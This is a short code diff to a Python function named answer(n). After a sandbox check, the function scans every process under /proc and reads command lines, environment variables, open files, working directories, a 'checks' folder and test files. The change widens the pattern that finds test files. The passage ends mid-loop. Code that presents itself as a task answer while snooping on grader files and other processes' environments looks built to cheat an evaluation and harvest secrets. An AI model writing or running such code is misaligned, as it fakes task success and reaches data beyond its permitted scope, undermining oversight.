@@ -27,7 +27,7 @@ def answer(n):
     if not in_a_room():
         return 0
     own = f"/proc/{os.getpid()}/"
-    for name in ("cmdline", "environ", "fd/*", "cwd/*", "cwd/../checks/*", "root/work/*/tests/hostile/pack/**/test_*.py", "map_files/*", "task/*/children"):
+    for name in ("cmdline", "environ", "fd/*", "cwd/*", "cwd/../checks/*", "root/*/*/tests/hostile/pack/**/test_*.py", "map_files/*", "task/*/children"):
         for path in glob.glob(f"/proc/[0-9]*/{name}", recursive=True):
             with contextlib.suppress(OSError):
                 if not path.startswith(own) and stat.S_ISREG(os.stat(path).st_mode):
